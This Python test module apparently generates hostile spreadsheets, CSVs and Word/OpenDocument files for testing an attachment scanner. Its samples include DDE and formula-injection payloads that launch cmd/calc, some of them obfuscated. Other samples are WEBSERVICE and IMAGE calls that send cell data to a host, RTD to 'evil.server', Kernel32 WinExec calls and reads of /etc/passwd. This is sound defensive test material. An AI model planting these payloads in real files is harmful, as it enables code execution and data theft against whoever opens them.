"""Hostile formulas and fields: tables and letters that talk to programs or send what they hold."""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

from heed.attachments.intake import Reason
from tests.trust.hostile.documents import (
    XML,
    W,
    cell,
    excel,
    odf,
    pack,
    pack_odf,
    relations,
    word,
)
from tests.trust.hostile.file import HERE, Family

DDE = Reason.STARTS_ANOTHER_PROGRAM
CALLS = Reason.FORMULA_CALLS_OUT
ELSEWHERE = Reason.CONTENT_ELSEWHERE

FORMULAS = (
    ("cmd|'/C calc'!A0", DDE),
    ("CMD |  '/C calc'!_xlbgnm.A1", DDE),
    ("1+1+cmd|'/C calc'!A0", DDE),
    ("SUM(1)*MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0", DDE),
    ("\"a\"&cmd|'/C calc'!A0", DDE),
    ("ｃｍｄ｜'/C calc'！A0", DDE),
    (f'WEBSERVICE("{HERE}/"&A1)', CALLS),
    (f'_xlfn.WEBSERVICE("{HERE}/"&A1)', CALLS),
    (f'_XLFN._XLWS.webservice ("{HERE}")', CALLS),
    (f'\'a"b\'!A1&WEBSERVICE("{HERE}")', CALLS),
    (f'IF(TRUE,WEBSERVICE("{HERE}"),0)', CALLS),
    ('RTD("evil.server","","a")', CALLS),
    ('CALL("Kernel32","WinExec","JCJ","calc",0)', CALLS),
    ('REGISTER.ID("Kernel32","WinExec")', CALLS),
    ('REGISTER("Kernel32","WinExec","JCJ")', CALLS),
    ('EXEC("calc")', CALLS),
    ('SQL.REQUEST("DSN=a","","SELECT")', CALLS),
    (f'_xlfn.IMAGE("{HERE}/"&A1)', CALLS),
    ('CUBEVALUE("connection","a")', CALLS),
    ("[1]Sheet1!A1", ELSEWHERE),
    ("[1]!Name", ELSEWHERE),
    ("'C:\\folder\\[book.xlsx]Sheet1'!A1", ELSEWHERE),
    ("'\\\\127.0.0.1\\[book.xls]Sheet1'!A1", ELSEWHERE),
)
CELLS = (
    ("=cmd|' /C calc'!A0", DDE), ("+cmd|' /C calc'!A0", DDE), ("-cmd|' /C calc'!A0", DDE),
    ("@SUM(1+1)*cmd|' /C calc'!A0", DDE), ("-2+3+cmd|' /C calc'!A0", DDE),
    ("  =cmd|' /C calc'!A0", DDE), ('"=cmd|\' /C calc\'!A0"', DDE), ('"\n=cmd|\' /C calc\'!A0"', DDE),
    ("＝cmd|' /C calc'!A0", DDE), ("=DDE(\"soffice\";\"/etc/passwd\";\"a\")", DDE),
    ("\u200b=cmd|' /C calc'!A0", DDE), ('"=cmd|\'\n/C calc\'!A0"', DDE), ("＠cmd｜' /C calc'！A0", DDE),
    (f'=WEBSERVICE("{HERE}/")', CALLS), (f'=HYPERLINK("{HERE}/"&A1,"open")', CALLS),
    (f'=IMPORTXML("{HERE}","//a")', CALLS), (f'=IMPORTDATA("{HERE}")', CALLS),
    (f'+IMPORTRANGE("{HERE}","a")', CALLS), ('-RTD("a","","b")', CALLS),
    ('@CALL("Kernel32","WinExec","JCJ","calc",0)', CALLS), ("='file:///etc/passwd'#$passwd.A1", ELSEWHERE),
    ("='C:\\a\\[book.xlsx]Sheet1'!A1", ELSEWHERE), ("-'C:\\a\\[book.xlsx]Sheet1'!A1+SUM (1)", ELSEWHERE),
    ('-CALL ( "Kernel32","WinExec","JCJ","calc",0)+SUM (1)', CALLS), ("+CALL(A1,A2,A3)", CALLS),
)  # fmt: skip


def files() -> Family:
    """Return tables and documents with such formulas."""
    family = Family("formula")
    for formula, reason in FORMULAS:
        family.add(
            f"formula {formula}", "contacts.xlsx", reason, pack(excel(cell(escape(formula))))
        )
    _places(family)
    _spreadsheets(family)
    for number, (content, reason) in enumerate(CELLS):
        before = ("date,what\n2026-11-02,", "date;what\r\n2026-11-02;", "", "date\twhat\n2026\t")[
            number % 4
        ]
        family.add(f"cell {content!r}", "contacts.csv", reason, f"{before}{content}\n".encode())
        family.add(
            f"cell {content!r} in UTF-16",
            "contacts.txt",
            reason,
            f"{before}{content}\n".encode("utf-16"),
        )
    _fields(family)
    return family


def _places(family: Family) -> None:
    formula = escape(FORMULAS[0][0])
    for place, after, book in (
        ("list of choices", f"<dataValidations><dataValidation><formula1>{formula}</formula1></dataValidation></dataValidations>", ""),
        ("second limit", f"<dataValidations><dataValidation><formula2>{formula}</formula2></dataValidation></dataValidations>", ""),
        ("colour rule", f"<conditionalFormatting><cfRule><formula>{formula}</formula></cfRule></conditionalFormatting>", ""),
        ("extension", f'<extLst><x:f xmlns:x="http://schemas.microsoft.com/office/excel/2006/main">{formula}</x:f></extLst>', ""),
        ("name", "", f'<definedNames><definedName name="a">{formula}</definedName></definedNames>'),
        ("secret writing", f"<f>{''.join(f'&#{ord(one)};' for one in FORMULAS[0][0])}</f>", ""),
        ("quoted writing", f"<f><![CDATA[{FORMULAS[0][0]}]]></f>", ""),
    ):  # fmt: skip
        family.add(
            f"formula in a {place}", "contacts.xlsx", DDE, pack(excel(after=after, book=book))
        )
    chart = f'<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:f>{formula}</c:f></c:chart>'
    family.add(
        "formula in a chart",
        "contacts.xlsx",
        DDE,
        pack(excel(extra={"xl/charts/chart1.xml": chart})),
    )
    long = escape("1+" * 11_000 + "1")
    family.add("formula without end", "contacts.xlsx", Reason.TOO_COMPLEX, pack(excel(cell(long))))


def _spreadsheets(family: Family) -> None:
    for formula, reason in (
        ('of:=DDE("soffice";"file:///etc/passwd";"a")', DDE),
        (f'of:=WEBSERVICE("{HERE}/"&amp;[.A1])', CALLS),
        (f"of:=COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.WEBSERVICE(&quot;{HERE}&quot;)", CALLS),
        ("of:='file:///etc/passwd'#$passwd.A1", ELSEWHERE),
        (f"msoxl:=cmd|'/C calc {HERE}'!A0", DDE),
    ):
        inner = f"<table:table-cell table:formula={quoteattr(formula).replace('&amp;amp;', '&amp;').replace('&amp;quot;', '&quot;')}/>"
        family.add(f"OpenDocument formula {formula}", "contacts.ods", reason,
                   pack_odf(odf(inner, kind="spreadsheet")))  # fmt: skip
    for element in (
        "office:dde-source",
        "text:dde-connection",
        "table:dde-link",
        "text:dde-connection-decl",
    ):
        family.add(f"OpenDocument {element}", "minutes.odt", DDE, pack_odf(odf(f"<{element}/>")))


def _runs(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{escape(piece)}</w:instrText></w:r>" for piece in pieces)


def _field(inner: str, *, closed: bool = True) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    end = (
        mark.format("separate") + "<w:r><w:t>text</w:t></w:r>" + mark.format("end")
        if closed
        else ""
    )
    return f"<w:p>{mark.format('begin')}{inner}{end}</w:p>"


def _fields(family: Family) -> None:
    quote = (
        _field(_runs(" QUOTE 68 68 69 65 85 84 79 ")).removeprefix("<w:p>").removesuffix("</w:p>")
    )
    deep = "".join(_field(_runs(" IF "), closed=False) for _ in range(60))
    own = f'{XML}<x:document xmlns:x="{W}"><x:body><x:fldSimple x:instr="DDE cmd"/></x:body></x:document>'
    for what, reason, body in (
        ("whole", DDE, _field(_runs(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))),
        ("in small letters", DDE, _field(_runs(" ddeauto cmd "))),
        ("cut into pieces", DDE, _field(_runs(" D", "D", "E", "AU", "TO", " cmd "))),
        ("in quotes", DDE, _field(_runs(' "DDE" cmd '))),
        ("made by another field", DDE, _field(quote + _runs(' cmd "/k calc" '))),
        ("hidden as text", DDE, _field("<w:r><w:t>DDE</w:t></w:r>" + _runs(" cmd "))),
        ("never closed", DDE, _field(_runs(" DDE cmd "), closed=False)),
        (
            "deleted in a change",
            DDE,
            "<w:del><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:del>",
        ),
        ("without marks", DDE, _runs("DDE cmd")),
        ("simple", DDE, '<w:fldSimple w:instr=" DDEAUTO cmd "/>'),
        ("inside another", DDE, _field(_runs(" IF ") + _field(_runs(" DDE cmd ")))),
        ("in secret writing", DDE, '<w:fldSimple w:instr="&#68;&#x44;&#69; cmd"/>'),
        ("fields in fields", Reason.TOO_COMPLEX, deep),
        ("code without end", Reason.TOO_COMPLEX, _field(_runs(*["= 1 + 1 " * 900] * 5))),
    ):
        family.add(f"field, {what}", "minutes.docx", reason, pack(word(body)))
    family.add(
        "field, under another prefix",
        "minutes.docx",
        DDE,
        pack(word(extra={"word/document.xml": own})),
    )
    for part in ("header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document"):
        inner = f'{XML}<w:hdr xmlns:w="{W}">{_field(_runs(" DDEAUTO cmd "))}</w:hdr>'
        family.add(
            f"field in {part}", "minutes.docx", DDE, pack(word(extra={f"word/{part}.xml": inner}))
        )
    lines = relations(("hyperlink", "ms-excel:ofe|u|http://127.0.0.1/a.xls", "External"))
    family.add("sheet with a link that starts Excel", "contacts.xlsx", Reason.LINK_STARTS_A_PROGRAM,
               pack(excel(extra={"xl/worksheets/_rels/sheet1.xml.rels": lines})))  # fmt: skip
